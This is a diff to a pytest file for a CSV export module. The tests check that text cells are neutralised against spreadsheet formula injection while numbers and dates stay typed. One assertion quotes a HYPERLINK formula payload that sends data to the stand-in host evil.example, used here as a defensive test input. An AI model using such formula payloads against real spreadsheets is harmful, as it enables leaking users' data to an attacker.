@@ -10,13 +10,14 @@ import subprocess
 import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass
+from datetime import date
 from pathlib import Path
 from xml.etree import ElementTree
 
 import pytest
 from frictionless import validate
 
-from berlintalks.export import inert
+from berlintalks.export import _cell, inert
 from conftest import REPO, SOURCES, Run, claim_yaml, write_kb
 
 TABLES = ("claims", "sources", "attributions", "relations")
@@ -332,14 +333,14 @@ def test_libreoffice_opens_every_csv_with_no_formula_and_no_extra_row(
 
     claims = {row[0].text: row for row in sheets["claims"][1:]}
     header = [c.text for c in sheets["claims"][0]]
-    title, date = header.index("title"), header.index("date")
+    title, when = header.index("title"), header.index("date")
     for i, (text, runs) in enumerate(PAYLOADS):
         cell = claims[f"evil-{i}"][title]
         assert cell.type == "string", i
         assert cell.text == as_calc_shows(in_csv(single_line(text), runs)), i
     assert claims["evil-0"][title].text.startswith("'=HYPERLINK(\"http://evil.example/?leak=")
     # Dates and numbers are still typed: the apostrophe went only where text was.
-    assert claims["evil-0"][date].type == "date"
+    assert claims["evil-0"][when].type == "date"
     header = [c.text for c in sheets["attributions"][0]]
     positions = {row[header.index("position")].type for row in sheets["attributions"][1:]}
     assert positions == {"float"}
@@ -364,6 +365,22 @@ def test_libreoffice_opens_every_csv_with_no_formula_and_no_extra_row(
 )
 def test_inert_looks_past_leading_spaces_and_invisible_characters(text: str, written: str) -> None:
     assert inert(text) == written
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (-3, -3),
+        (-1.5, -1.5),
+        ("-3", "'-3"),
+        (date(2025, 12, 14), "2025-12-14"),
+        (("=a", "b"), "'=a b"),
+        (None, ""),
+    ],
+)
+def test_only_text_is_neutralised_numbers_stay_numbers(value: object, written: object) -> None:
+    # A number column keeps its sign: the CSV writer prints -3, and a spreadsheet reads -3.
+    assert _cell(value) == written
 
 
 def test_the_built_sites_data_csvs_are_neutralised_too(
